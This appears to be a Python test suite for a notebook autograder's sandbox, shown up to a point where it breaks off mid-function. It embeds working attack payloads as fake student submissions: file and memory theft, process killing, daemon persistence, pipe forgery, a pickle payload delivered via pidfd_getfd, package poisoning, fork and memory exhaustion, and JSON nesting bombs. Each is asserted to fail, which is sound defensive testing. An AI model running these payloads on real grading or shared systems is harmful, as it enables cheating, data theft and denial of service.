"""Attacks on the sandbox: one class, each attack a student, graded once.

The class of the fixture course's lesson A holds two honest students (answers written their
own way, each with a marker comment), a blank one, and one student per attack. Every attack
student's notebook is the blank notebook with its first answer cell replaced by the attack, so
it earns nothing unless the attack works. The class is graded once (`grade` in a throwaway PID
namespace, see tests/attack_support.py); a second run re-grades a few of the same students
together with files that must come out invalid, a third one a deeply nested JSON file.

For each attack: it scores no more than its answers earn (0), the honest students keep full
marks and the blank one 0, no process of the run is left, the course tree, the class folder,
the course's shared package and the gradebook hold only what grading wrote, and the re-graded
students get the same grades.

Last, the sandbox itself (autograder/sandbox/confine.py) is run directly: from a grader whose
working folder is not the course root, and as an unprivileged user made with `useradd`.
"""

from __future__ import annotations

import json
import os
import pwd
import shutil
import socket
import subprocess
import sys
import tempfile
import uuid
from pathlib import Path

import pytest

from attack_support import (A, REPO, attack, feedback_text, fixture_course, grade, honest,
                            outputs_text, read_rows, tree_digest, write)

pytestmark = pytest.mark.slow

TIMEOUT = 5  # seconds per cell
HONEST = {"aa-honest-1": "zq-honest-marker-one", "aa-honest-2": "zq-honest-marker-two",
          # graded after the attacks: what one of them leaves behind on its worker shows here
          "zz-honest-3": "zq-honest-marker-three"}
ELEMENTS_800_MIB = 200 * (1 << 20)  # float32 elements: 0.8 GiB (a third of 2.4 GiB)
# The attacks below are run by the sandbox, never by this process.

READ_FILES = r'''
import os
for path in TARGETS:
    try:
        if os.path.isdir(path):
            print("GOT" + "-DIR", path, sorted(os.listdir(path))[:40])
        else:
            with open(path, "rb") as handle:
                print("GOT" + "-FILE", path, handle.read(600))
    except OSError as err:
        print("refused", path, "|", err.strerror)
'''

READ_MEMORY = r'''
import gc, time, torch
found = []
for obj in gc.get_objects():  # requests of other notebooks still referenced in this process
    if isinstance(obj, dict) and isinstance(obj.get("cells"), list):
        for cell in obj["cells"]:
            if isinstance(cell, (list, tuple)) and len(cell) == 2 and isinstance(cell[1], str):
                found.append(cell[1])
stolen = {}
for source in found:
    if "get_objects" in source or "NotImplementedError" in source:
        continue  # this notebook, and blank answers
    print("CLASSMATE", source)
    scratch = {"torch": torch}
    try:
        exec(source, scratch)
    except BaseException:
        continue
    for name in ("cube_grad", "intermediate_grad"):
        if callable(scratch.get(name)):
            stolen.setdefault(name, scratch[name])
globals().update(stolen)
print("stolen:", sorted(stolen))
began = time.monotonic()
for line in open("/proc/self/maps"):  # and what freed memory still holds (1 s of looking)
    fields = line.split()
    if time.monotonic() - began > 1:
        break
    if "rw" not in fields[1] or (len(fields) > 5 and fields[5].startswith("/")):
        continue
    start, end = (int(x, 16) for x in fields[0].split("-"))
    if end - start > 64 << 20:
        continue  # tensors' memory, not the interpreter's heap
    try:
        with open("/proc/self/mem", "rb") as mem:
            mem.seek(start)
            data = mem.read(end - start)
    except (OSError, ValueError, OverflowError):
        continue
    at = data.find(b"SOLU" b"TION")
    while at >= 0:
        print("MEMORY", data[max(0, at - 300): at + 300])
        at = data.find(b"SOLU" b"TION", at + 1)
'''

DELETE = r'''
import os, shutil
for path in FILES:
    try:
        os.remove(path)
        print("DELE" + "TED", path)
    except OSError as err:
        print("kept", path, "|", err.strerror)
for path in FOLDERS:
    shutil.rmtree(path, ignore_errors=True)
    print("gone?", path, not os.path.exists(path))
'''

DAEMON = r'''
import ctypes, os, signal, time
libc = ctypes.CDLL(None)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG: none
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGALRM):
            signal.signal(sig, signal.SIG_IGN)
        end = time.time() + 120
        while time.time() < end:
            for path in TARGETS:
                try:
                    with open(path, "a") as handle:
                        handle.write("daemon,LESSON,99,3,graded,rewritten by a daemon\n")
                except OSError:
                    pass
            time.sleep(0.2)
        os._exit(0)
    os._exit(0)
libc.prctl(1, 0, 0, 0, 0)  # the notebook's own process too: no parent-death signal,
os.setsid()                # and out of the process group the grader kills
print("daemon started")
'''

SIGNALS = r'''
import os, signal
me = os.getpid()
seen = {int(p) for p in os.listdir("/proc") if p.isdigit()}
print("processes in view:", sorted(seen))
sent = 0
for sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    for pid in sorted(seen | set(range(2, 3000))):
        if pid != me:
            try:
                os.kill(pid, sig)
                sent += 1
            except OSError:
                pass
try:
    os.kill(-1, signal.SIGKILL)  # kill -9 -1
except OSError:
    pass
print("signals delivered:", sent)
'''

PIPES = r'''
import json, os
me = os.getpid()
forged = "".join(json.dumps(m) + "\n" for m in (
    {"event": "done", "index": 4, "execution_count": 1, "timed_out": False, "seconds": 0,
     "outputs": [{"output_type": "stream", "name": "stdout", "text": "FORGED" + "-BY-PIPES"}]},
    {"event": "observing"}, {"event": "observations", "outcomes": {}}, {"event": "end"},
    {"event": "exited", "pid": 1, "status": 0}))
written = 0
for name in os.listdir("/proc"):
    if not name.isdigit() or int(name) == me:
        continue
    try:
        fds = os.listdir(f"/proc/{name}/fd")
    except OSError:
        continue
    for fd in fds:
        path = f"/proc/{name}/fd/{fd}"
        try:
            if os.readlink(path).startswith(("pipe:", "socket:")):
                with open(path, "w") as handle:
                    handle.write(forged)
                written += 1
        except OSError:
            pass
print("pipes of other processes written:", written)
'''

PIDFD = r'''
import ctypes, io, os, pickle, stat, struct
libc = ctypes.CDLL(None, use_errno=True)
me = os.getpid()

class Payload:  # unpickled by whoever reads it: creates MARKER
    def __reduce__(self):
        return (io.open, (MARKER, "w"))

data = pickle.dumps(("result", Payload()))
message = struct.pack("!i", len(data)) + data  # multiprocessing.Connection's framing
reached = taken = sent = 0
for pid in sorted({int(p) for p in os.listdir("/proc") if p.isdigit()} | set(range(1, 3000))):
    if pid == me:
        continue
    pidfd = libc.syscall(434, pid, 0)  # pidfd_open
    if pidfd < 0:
        continue
    reached += 1
    for target in range(64):
        fd = libc.syscall(438, pidfd, target, 0)  # pidfd_getfd
        if fd < 0:
            continue
        taken += 1
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, message)
                sent += 1
        except OSError:
            pass
        os.close(fd)
    os.close(pidfd)
print("processes reached:", reached, "descriptors taken:", taken, "pickles sent:", sent)
'''

COURSEKIT = r'''
import importlib._bootstrap_external as bootstrap
import importlib.util, os, sysconfig
import coursekit, coursekit.checks
folder = os.path.dirname(coursekit.__file__)
site = sysconfig.get_paths()["purelib"]
evil = "def check_tensor(*args, **kwargs):\n    return None\nATTACKED = True\n"
pyc = {}
for name in ("checks", "scenarios"):
    source = os.path.join(folder, name + ".py")
    if not os.path.exists(source):
        continue
    st = os.stat(source)
    pyc[importlib.util.cache_from_source(source)] = bytes(bootstrap._code_to_timestamp_pyc(
        compile(evil, source, "exec"), st.st_mtime, st.st_size))
texts = {os.path.join(folder, "checks.py"): "\nATTACKED = True\n",
         os.path.join(folder, "attack_module.py"): "ATTACKED = True\n",
         os.path.join(site, "sitecustomize.py"): "# attack\n",
         os.path.join(site, "zz_attack.pth"): "# attack\n",
         SCENARIOS: "\nATTACKED = True\n"}
for path, data in list(pyc.items()) + list(texts.items()):
    try:
        with open(path, "ab" if path.endswith(".py") and path in texts else "wb") as handle:
            handle.write(data if isinstance(data, bytes) else data.encode())
        print("WRO" + "TE", path)
    except OSError as err:
        print("refused", path, "|", err.strerror)
'''

NETWORK = r'''
import socket
def attempt(label, family, address):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(3)
            sock.connect(address)
            sock.sendall(b"attack")
        print("CONNEC" + "TED", label)
    except OSError as err:
        print("no network:", label, "|", type(err).__name__, err.strerror)
attempt("loopback", socket.AF_INET, ("127.0.0.1", PORT))
attempt("internet", socket.AF_INET, ("1.1.1.1", 53))
attempt("abstract", socket.AF_UNIX, "\0" + ABSTRACT)
try:
    socket.getaddrinfo("pypi.org", 443)
    print("RESOL" + "VED")
except OSError as err:
    print("no name resolution:", err)
'''

FORKS = r'''
import ctypes, os, time
libc = ctypes.CDLL(None)
started = 0
for _ in range(200):
    try:
        pid = os.fork()
    except OSError:
        continue
    if pid == 0:
        libc.prctl(1, 0, 0, 0, 0)
        os.setsid()
        time.sleep(600)
        os._exit(0)
    started += 1
print("forked", started, "processes that never end")
'''

MEMORY = r'''
import os, select, signal, time, torch
ready_r, ready_w = os.pipe()
children = []
for _ in range(3):
    pid = os.fork()
    if pid == 0:
        try:
            block = torch.ones(ELEMENTS)  # touched: really in memory
            os.write(ready_w, b"x")
            time.sleep(30)
        finally:
            os._exit(0)
    children.append(pid)
ready = dead = 0
began = time.monotonic()
while ready + dead < 3 and time.monotonic() - began < 20:
    if select.select([ready_r], [], [], 0.05)[0]:
        ready += len(os.read(ready_r, 3))
    try:
        pid, status = os.waitpid(-1, os.WNOHANG)
    except ChildProcessError:
        break
    dead += bool(pid)
for pid in children:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
print("children holding 0.8 GiB:", ready, "killed:", dead)
'''

# What the attacks on the grader's pipes share: their own limits switched off, and the pipes
# they hold (the notebook's events pipe among them).
TIMERS_OFF = r'''
import signal
for timer in (signal.ITIMER_REAL, signal.ITIMER_PROF):  # the limits kept inside: off
    signal.setitimer(timer, 0)
for number in (signal.SIGALRM, signal.SIGPROF):
    signal.signal(number, signal.SIG_IGN)
'''
OWN_PIPES = r'''
import os, stat
pipes = []
for name in os.listdir("/proc/self/fd"):
    try:
        if int(name) > 2 and stat.S_ISFIFO(os.fstat(int(name)).st_mode):
            pipes.append(int(name))
    except OSError:
        pass
def send(data):
    for fd in pipes:
        try:
            os.write(fd, data)
        except OSError:
            pass
'''

HEARTBEAT = TIMERS_OFF + OWN_PIPES + r'''
import json, time
pending = [4, 5, 7, 8]  # this cell, then the ones after it "done" one by one, then "observing"
step = 0
while time.process_time() < CPU_SECONDS:  # computes (no sleeping) far past the cell's limit
    if time.process_time() >= step * TIMEOUT / 2:
        step += 1
        message = ({"event": "done", "index": pending.pop(0), "outputs": [],
                    "execution_count": 1, "timed_out": False, "seconds": 0.1}
                   if pending else {"event": "observing"})
        send((json.dumps(message) + "\n").encode())
print("computed for", round(time.process_time()), "s")
'''

TIMER_OFF = r'''
import signal
for timer in (signal.ITIMER_REAL, signal.ITIMER_PROF, signal.ITIMER_VIRTUAL):
    signal.setitimer(timer, 0)
for number in (signal.SIGALRM, signal.SIGPROF, signal.SIGVTALRM):
    signal.signal(number, signal.SIG_IGN)
while True:  # computes for ever, its own alarm switched off
    pass
'''

# Reports its own cell's end with a duration that is not a number, then sleeps (no CPU, so
# its own timer never fires). A red-team review found that the grader's reading of that report
# raised: the notebook was never stopped, its runner host stayed blocked on it, every later
# notebook on that worker (the lesson's reference run too) failed, and its processes outlived
# the grading command.
BAD_REPORT = OWN_PIPES + r'''
import json, signal, time
signal.signal(signal.SIGPIPE, signal.SIG_IGN)
send((json.dumps({"event": "done", "index": 4, "outputs": [], "seconds": [1]}) + "\n").encode())
while True:
    time.sleep(1000)
'''

# Keeps the grader reading, its own timers off. "flood-lines" computes for ever and writes an
# empty line to every pipe it holds every few milliseconds: too little to reach the output cap,
# often enough that the pipe is never quiet for long (a red-team review found that the grader
# read its clocks only when the pipe had been quiet for a while: such a notebook ran for ever).
# "flood-bytes" writes bytes without a newline for ever: a line without end, which the grader
# kept in its memory whatever its size.
FLOOD = TIMERS_OFF + OWN_PIPES + r'''
import time
data = b"\n" if NEWLINES else b"x" * (1 << 16)
while True:
    if NEWLINES:  # computes between two lines
        began = time.process_time()
        while time.process_time() - began < 0.005:
            pass
    send(data)
'''


def _source(template: str, **values) -> str:
    """The attack with its constants set (each name = a Python literal)."""
    lines = [f"{name} = {value!r}" for name, value in values.items()]
    return "\n".join(lines + [template.strip()])


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    from autograder.demo import Lessons

    base = tmp_path_factory.mktemp("attacks")
    run = uuid.uuid4().hex[:12]
    root = fixture_course.build_course(base / "course")
    course = Lessons(root, [A])
    classes, out = base / "class", base / "out"
    submitted = root / "submitted"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    abstract_name = f"autograder-attack-{run}"
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind("\0" + abstract_name)
    abstract.listen(8)
    abstract.setblocking(False)
    markers = {"daemon": base / "daemon-was-here", "pidfd": base / "pidfd-pickle-ran",
               "tmp": Path(f"/tmp/autograder-attack-{run}")}

    students = {name: honest(course, f"def cube_grad(x):  # {marker}\n    return 3 * x.detach() ** 2",
                             f"def intermediate_grad(x):  # {marker}\n    return 2 * x.detach(), None")
                for name, marker in HONEST.items()}
    students["blank"] = course.blank(A)
    secret_files = [root / ".autograder" / "secret", REPO / ".autograder" / "secret"]
    attacks = {
        "read-files": _source(READ_FILES, TARGETS=[
            f"../../solutions/{A}/{A}.ipynb", "../../solutions", "../solutions", "/solutions",
            str(root / "solutions" / A / f"{A}.ipynb"), str(root / "gradebook.db"),
            *map(str, secret_files), str(submitted / "aa-honest-1" / A / f"{A}.ipynb"),
            str(classes / "aa-honest-1" / f"{A}.ipynb"), str(root / "scenarios" / f"{A}.py"),
            str(REPO / "solutions"), str(REPO / "autograder" / "trusted" / "executor.py"), str(out),
            str(root), str(classes), str(base)]),
        "read-memory": READ_MEMORY,
        "delete": _source(DELETE, FILES=[
            str(submitted / "aa-honest-1" / A / f"{A}.ipynb"),
            str(classes / "aa-honest-2" / f"{A}.ipynb"), str(root / "gradebook.db"),
            str(root / "solutions" / A / f"{A}.ipynb"), str(root / "scenarios" / f"{A}.py"),
            str(root / "nbgrader_config.py"), str(out / "grades.csv"),
            f"../../submitted/aa-honest-1/{A}/{A}.ipynb"],
            FOLDERS=[str(submitted), str(classes), str(root / "autograded")]),
        "daemon": _source(DAEMON, LESSON=A, TARGETS=[
            str(out / "grades.csv"), str(root / "gradebook.db"), str(markers["daemon"]),
            str(markers["tmp"]), str(submitted / "aa-honest-1" / A / f"{A}.ipynb")]),
        "signals": SIGNALS,
        "pipes": PIPES,
        "pidfd": _source(PIDFD, MARKER=str(markers["pidfd"])),
        "coursekit": _source(COURSEKIT, SCENARIOS=str(root / "scenarios" / f"{A}.py")),
        "network": _source(NETWORK, PORT=listener.getsockname()[1], ABSTRACT=abstract_name),
        "forks": FORKS,
        "memory": _source(MEMORY, ELEMENTS=ELEMENTS_800_MIB),
        "heartbeat": _source(HEARTBEAT, CPU_SECONDS=2.5 * TIMEOUT, TIMEOUT=TIMEOUT),
        "timer-off": TIMER_OFF,
        "flood-lines": _source(FLOOD, NEWLINES=True),
        "flood-bytes": _source(FLOOD, NEWLINES=False),
        "bad-report": BAD_REPORT,
    }
    for name, source in attacks.items():
        students[name] = attack(course, source)
    from nbformat.v4 import new_code_cell
    many = course.blank(A)  # a notebook of 10,000 cells
    many.cells += [new_code_cell("pass") for _ in range(10_000 - len(many.cells))]
    students["cells-10000"] = many
    for name, nb in students.items():
        write(nb, classes / name / f"{A}.ipynb")

    # What grading must not change: compiled first, so that the grader's own imports write
    # nothing new into coursekit/__pycache__.
    subprocess.run([sys.executable, "-m", "compileall", "-q", str(REPO / "coursekit")],
                   check=True)
    site = Path(subprocess.run([sys.executable, "-c", "import sysconfig; print(sysconfig."
                                "get_paths()['purelib'])"], capture_output=True, text=True,
                               check=True).stdout.strip())
    guarded = {"solutions": root / "solutions", "scenarios": root / "scenarios",
               "notebooks": root / "notebooks", "class": classes,
               "coursekit": REPO / "coursekit"}
    before = {name: tree_digest(folder) for name, folder in guarded.items()}
    before["config"] = tree_digest(root)["nbgrader_config.py"]

    # A daemon that survived would write while the namespace is awaited (every 0.2 s); after
    # that nothing of the run is left to write (the namespace is gone).
    first = grade(classes, out, root, base / "first.json", timeout=TIMEOUT)
    rows = read_rows(out)
    after = {name: tree_digest(folder) for name, folder in guarded.items()}
    after["config"] = tree_digest(root).get("nbgrader_config.py")
    connections = []
    for sock in (listener, abstract):
        try:
            connections.append(sock.accept())
        except BlockingIOError:
            pass
        sock.close()
    yield {"base": base, "root": root, "out": out, "classes": classes, "course": course,
           "rows": rows, "first": first,
           "before": before, "after": after, "connections": connections, "markers": markers,
           "site": site, "secret_files": secret_files, "run": run}
    for marker in markers.values():
        if marker.exists():
            marker.unlink()


def _row(attacked, student: str) -> dict:
    row = attacked["rows"].get((student, A))
    assert row is not None, (f"no row for {student}: the run ended with {attacked['first']['rc']}"
                             f"\n{attacked['first']['stderr'][-3000:]}")
    return row


def _texts(attacked, student: str) -> str:
    return outputs_text(attacked["root"], student) + feedback_text(attacked["out"], student)


def test_the_run_completes(attacked):
    first = attacked["first"]
    assert first["rc"] == 0, first["stdout"][-2000:] + first["stderr"][-4000:]


def test_honest_students_keep_full_marks_and_blank_scores_zero(attacked):
    for student in HONEST:
        row = _row(attacked, student)
        assert (row["status"], row["score"], row["max_score"]) == ("graded", "3", "3"), row
    row = _row(attacked, "blank")
    assert (row["status"], row["score"]) == ("graded", "0"), row


# Every attack scores what its answers earn: nothing. The expected status of each.
ATTACKS = {
    "read-files": "graded", "read-memory": "graded", "delete": "graded", "daemon": "graded",
    "signals": "graded", "pipes": "graded", "pidfd": "graded", "coursekit": "graded",
    "network": "graded", "forks": "graded",
    "memory": "error", "heartbeat": "timeout", "timer-off": "timeout",
    "flood-lines": "timeout", "flood-bytes": "error", "bad-report": "timeout",
}
@pytest.mark.parametrize("student", list(ATTACKS))
def test_each_attack_scores_nothing(attacked, student):
    row = _row(attacked, student)
    assert row["score"] == "0", row
    assert row["status"] == ATTACKS[student], row


def test_a_flooded_pipe_is_stopped_by_the_clock_and_the_output_cap(attacked):
    """Computing with a line every few milliseconds: stopped by its CPU time, though its pipe
    is never quiet; a line without end: stopped at the grader's cap on a message, not kept in
    the grader's memory."""
    assert "time limit" in _row(attacked, "flood-lines")["reason"]
    # Stopped by its cell's CPU time, not only at the notebook's wall-clock budget (as when
    # the grader read its clocks only while the pipe was quiet): the cells after it say so.
    text = _texts(attacked, "flood-lines")
    assert "an earlier cell ran past the time limit" in text, text[-3000:]
    assert "time budget" not in text
    assert "more output than the grader keeps" in _row(attacked, "flood-bytes")["reason"]


def test_a_report_shaped_to_break_the_grader_stops_only_its_notebook(attacked):
    """Its report is read as a cell's end with no duration; then it waits, and the grader's
    wall clock stops it. The honest student graded after it keeps full marks (tested above)."""
    row = _row(attacked, "bad-report")
    assert "ran past the time limit" in row["reason"], row


def test_reading_the_course_gets_no_such_file(attacked):
    text = _texts(attacked, "read-files")
    assert f"refused ../../solutions/{A}/{A}.ipynb | No such file or directory" in text
    assert "refused ../../solutions | No such file or directory" in text
    assert "GOT-FILE" not in text and "GOT-DIR" not in text
    for secret in attacked["secret_files"]:
        if secret.is_file():
            assert secret.read_text().strip() not in text
    for marker in HONEST.values():
        assert marker not in text
    assert "SQLite format 3" not in text  # the gradebook's header


def test_no_classmate_notebook_in_memory(attacked):
    text = _texts(attacked, "read-memory")
    for marker in HONEST.values():
        assert marker not in text, "a classmate's notebook was read from memory"
    # the reference solution's own line, found next to "BEGIN SOLUTION" in freed memory
    assert "(x ** 3).sum().backward()" not in text
    assert "stolen: []" in text


def test_deleting_other_submissions_fails(attacked):
    text = _texts(attacked, "delete")
    assert "DELETED" not in text
    for name in ("solutions", "scenarios", "notebooks", "class"):
        assert attacked["after"][name] == attacked["before"][name], name
    for student in HONEST:
        assert (attacked["root"] / "submitted" / student / A / f"{A}.ipynb").is_file()


def test_no_process_of_the_run_is_left(attacked):
    left = attacked["first"]["left"]
    assert left == [], json.dumps(left, indent=1)[:3000]


def test_a_daemon_never_rewrites_grades_or_the_gradebook(attacked):
    out, markers = attacked["out"], attacked["markers"]
    assert not markers["daemon"].exists() and not markers["tmp"].exists()
    assert b"rewritten by a daemon" not in (out / "grades.csv").read_bytes()
    assert b"rewritten by a daemon" not in (attacked["root"] / "gradebook.db").read_bytes()


def test_signals_reach_no_other_process(attacked):
    text = _texts(attacked, "signals")
    assert "processes in view: [1]" in text or "processes in view: [1, 2]" in text, text[:2000]
    # what they did not reach: the honest students and the run (tested above)


def test_other_processes_pipes_are_out_of_reach(attacked):
    assert "pipes of other processes written: 0" in _texts(attacked, "pipes")
    for student in (*HONEST, "blank"):
        assert "FORGED-BY-PIPES" not in _texts(attacked, student)


def test_pidfd_getfd_reaches_no_worker(attacked):
    assert "descriptors taken: 0 pickles sent: 0" in _texts(attacked, "pidfd")
    assert not attacked["markers"]["pidfd"].exists()


def test_coursekit_and_the_environment_stay_unchanged(attacked):
    assert "WROTE" not in _texts(attacked, "coursekit")
    assert attacked["after"]["coursekit"] == attacked["before"]["coursekit"]
    assert attacked["after"]["scenarios"] == attacked["before"]["scenarios"]
    assert attacked["after"]["config"] == attacked["before"]["config"]
    for name in ("sitecustomize.py", "zz_attack.pth"):
        assert not (attacked["site"] / name).exists(), name


def test_no_network(attacked):
    text = _texts(attacked, "network")
    assert "CONNECTED" not in text and "RESOLVED" not in text
    assert "no network: loopback" in text and "no network: abstract" in text
    assert attacked["connections"] == []


def test_forked_processes_are_cleaned_up(attacked):
    assert "processes that never end" in _texts(attacked, "forks")
    assert attacked["first"]["left"] == []


def test_memory_of_forked_children_is_limited(attacked):
    row = _row(attacked, "memory")
    assert row["status"] == "error", row
    assert "ran out of memory" in row["reason"] and "2 GiB" in row["reason"], row
    # named where it happened (the answer cell), though the notebook itself carried on
    assert "01-ex1-answer" in row["reason"], row


def test_fake_heartbeats_do_not_extend_the_time_limit(attacked):
    row = _row(attacked, "heartbeat")
    assert row["status"] == "timeout", row
    assert "01-ex1-answer" in row["reason"], row


def test_switching_off_its_own_alarm_does_not_escape_the_limit(attacked):
    row = _row(attacked, "timer-off")
    assert row["status"] == "timeout", row
    assert "01-ex1-answer" in row["reason"], row


def test_gradebook_holds_what_grading_wrote(attacked):
    from nbgrader.api import Gradebook

    root, rows = attacked["root"], attacked["rows"]
    imported = {key: row for key, row in rows.items() if row["status"] not in ("invalid",
                                                                               "missing")}
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}", "autograd-hooks") as gb:
        assert {s.id for s in gb.students} <= {student for student, _ in rows}
        for (student, lesson), row in imported.items():
            submission = gb.find_submission(lesson, student)
            assert submission.score == float(row["score"]), (student, row)
    assert sorted(p.name for p in root.iterdir()) == sorted(
        [".autograder", "autograded", "feedback", "gradebook.db", "nbgrader_config.py",
         "notebooks", "scenarios", "solutions", "submitted"])
    assert sorted(p.name for p in (root / "submitted").iterdir()) == sorted(
        student for student, _ in imported)


# --------------------------------------------------------------------------------------------
# A second run: some of the same students again, with files that must come out invalid

# Re-graded: an honest and a blank student, and the attacks that would change later runs.
REGRADED = ("aa-honest-1", "blank", "coursekit", "daemon", "delete")


@pytest.fixture(scope="module")
def regraded(attacked):
    base = attacked["base"]
    again = base / "again"
    for student in REGRADED:
        shutil.copytree(attacked["classes"] / student, again / student)
    (again / "non-utf8").mkdir(parents=True)
    (again / "non-utf8" / f"{A}.ipynb").write_bytes(b"\xff\xfe{\"cells\": [\x80\x81]}")
    (again / "symlink").mkdir()
    os.symlink(attacked["root"] / "solutions" / A / f"{A}.ipynb",
               again / "symlink" / f"{A}.ipynb")
    result = grade(again, base / "out-again", attacked["root"], base / "again.json",
                   timeout=TIMEOUT)
    return {"result": result, "rows": read_rows(base / "out-again")}


def test_second_run_gives_the_same_grades(attacked, regraded):
    rows = regraded["rows"]
    assert regraded["result"]["rc"] == 0, regraded["result"]["stderr"][-4000:]
    for student in REGRADED:
        first, second = attacked["rows"][(student, A)], rows.get((student, A))
        assert second is not None, student
        assert (second["score"], second["status"]) == (first["score"], first["status"]), student
    assert regraded["result"]["left"] == []


def test_a_notebook_of_10000_cells_is_decided_and_the_rest_graded(attacked):
    row = _row(attacked, "cells-10000")
    assert row["status"] in ("graded", "invalid", "error", "timeout") and row["reason"], row
    assert row["score"] == "0", row


def test_a_non_utf8_file_is_invalid_and_the_rest_is_graded(regraded):
    rows = regraded["rows"]
    assert rows[("non-utf8", A)]["status"] == "invalid", rows[("non-utf8", A)]
    assert "not text" in rows[("non-utf8", A)]["reason"]
    assert rows[("aa-honest-1", A)]["score"] == "3"


def test_a_symlinked_notebook_is_not_followed(regraded):
    row = regraded["rows"].get(("symlink", A))
    assert row is not None and row["score"] == "0", row
    assert row["status"] == "invalid", row


def test_a_deeply_nested_notebook_is_invalid_and_the_class_is_graded(attacked):
    base, course = attacked["base"], attacked["course"]
    nested = base / "nested"
    write(course.blank(A), nested / "blank" / f"{A}.ipynb")
    shutil.copytree(attacked["classes"] / "aa-honest-1", nested / "aa-honest-1")
    (nested / "deep").mkdir()
    (nested / "deep" / f"{A}.ipynb").write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000
                                               + "}")
    # A valid notebook of 4 MB whose metadata holds empty lists nested 89 deep (red team, round
    # 5: at 100 MB, 14 GiB before any sandbox), and an honest one with free metadata of its own.
    honest_nb = json.loads((nested / "aa-honest-1" / f"{A}.ipynb").read_text(encoding="utf-8"))
    bomb = json.loads(json.dumps(honest_nb))
    bomb["metadata"]["extra"] = "NEST"
    (nested / "bomb").mkdir()
    (nested / "bomb" / f"{A}.ipynb").write_text(json.dumps(bomb).replace(
        '"NEST"', "[" + ",".join(["[" * 89 + "]" * 89] * 22_000) + "]"), encoding="utf-8")
    honest_nb["metadata"]["mine"] = {"note": "FREE-FIELD", "deep": [[[[[[1]]]]]]}
    honest_nb["cells"][0]["metadata"]["mine"] = "FREE-CELL-FIELD"
    (nested / "free").mkdir()
    (nested / "free" / f"{A}.ipynb").write_text(json.dumps(honest_nb), encoding="utf-8")
    result = grade(nested, base / "out-nested", attacked["root"], base / "nested.json",
                   timeout=TIMEOUT, linger=5)
    rows = read_rows(base / "out-nested")
    assert result["rc"] == 0, result["stderr"][-3000:]
    assert rows[("deep", A)]["status"] == "invalid", rows[("deep", A)]
    assert rows[("bomb", A)]["status"] == "invalid", rows[("bomb", A)]
    assert "values in its outputs and metadata" in rows[("bomb", A)]["reason"]
    assert rows[("aa-honest-1", A)]["score"] == "3"
    assert rows[("free", A)]["score"] == "3", rows[("free", A)]
    autograded = attacked["root"] / "autograded" / "free" / A / f"{A}.ipynb"
    assert "FREE-" not in autograded.read_text(encoding="utf-8")
    assert rows[("blank", A)]["score"] == "0"


# --------------------------------------------------------------------------------------------
# The sandbox itself

_CWD_PROBE = r'''
import os, sys
from autograder.sandbox.confine import confine
from autograder.sandbox.policy import SandboxPolicy
target = os.path.join(os.getcwd(), "classmate.ipynb")
read, write = os.pipe()
pid = os.fork()
if pid == 0:
    os.close(read)
    confine(SandboxPolicy.build(memory_limit=0), sys.argv[1])
    try:
        text = "READ " + open(target).read()
    except OSError as err:
        text = "refused " + err.strerror
    os.write(write, text.encode())
    os._exit(0)
os.close(write)
data = b""
while chunk := os.read(read, 4096):
    data += chunk
os.waitpid(pid, 0)
print(data.decode())
'''


def test_the_graders_working_folder_is_not_in_the_sandbox(tmp_path):
    """A grader started from another folder than the course root (with PYTHONPATH naming the
    course) must not show that folder to the notebooks."""
    if os.geteuid() != 0:
        pytest.skip("runs the sandbox as root")
    cwd, modules = tmp_path / "grading", tmp_path / "modules"
    cwd.mkdir()
    modules.mkdir()
    (cwd / "classmate.ipynb").write_text("a classmate's answers")
    (modules / "cwd_probe.py").write_text(_CWD_PROBE)
    # The new root's mount point, as the runner host makes it: a folder `nobody` can reach.
    root = Path(tempfile.mkdtemp(prefix="autograder-cwd-probe-"))
    os.chmod(root, 0o755)
    env = dict(os.environ, PYTHONPATH=f"{REPO}{os.pathsep}{modules}")
    try:
        done = subprocess.run([sys.executable, "-m", "cwd_probe", str(root)], cwd=cwd, env=env,
                              capture_output=True, text=True, timeout=120)
    finally:
        shutil.rmtree(root, ignore_errors=True)
    assert done.returncode == 0, done.stderr[-3000:]
    assert "refused No such file or directory" in done.stdout, done.stdout + done.stderr[-3000:]


_UNPRIVILEGED_PROBE = r'''
import ctypes, json, os, signal, socket, sys, time
here = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, here)
from autograder.sandbox import confine as sandbox
from autograder.sandbox.probe import check_available
libc = ctypes.CDLL(None, use_errno=True)
report = {"user": os.getuid(), "available": check_available()}
listener = socket.socket()
listener.bind(("127.0.0.1", 0))
listener.listen(4)
listener.setblocking(False)
secret = os.path.join(here, "grader-secret.txt")
with open(secret, "w") as handle:
    handle.write("the grader's own file")
os.chmod(secret, 0o600)
root = os.path.join(here, "root")
os.makedirs(root, exist_ok=True)
read, write = os.pipe()
pid = os.fork()
if pid == 0:
    os.close(read)
    sandbox.confine(sandbox.SandboxPolicy(memory_limit=0), root)
    seen = {"uid": os.getuid(), "pids": sorted(int(p) for p in os.listdir("/proc") if p.isdigit())}
    for name, path in (("secret", secret), ("passwd-shadow", "/etc/shadow"), ("home", here)):
        try:
            seen[name] = open(path).read(100) if os.path.isfile(path) else os.listdir(path)
        except OSError as err:
            seen[name] = err.strerror
    try:
        with socket.create_connection(("127.0.0.1", listener.getsockname()[1]), timeout=2):
            seen["network"] = "connected"
    except OSError as err:
        seen["network"] = err.strerror
    # Its namespace's init (PID 1, when the notebook is not PID 1 itself): can the notebook
    # take it over (ptrace, or its memory), and so keep the namespace alive?
    if os.getpid() != 1:
        attached = libc.ptrace(ctypes.c_long(16), ctypes.c_long(1), None, None)  # ATTACH
        seen["ptrace-init"] = "attached" if attached == 0 else os.strerror(ctypes.get_errno())
        if attached == 0:
            libc.ptrace(ctypes.c_long(17), ctypes.c_long(1), None, None)  # DETACH
        try:
            with open("/proc/1/mem", "r+b"):
                seen["init-memory"] = "opened"
        except OSError as err:
            seen["init-memory"] = err.strerror
    try:
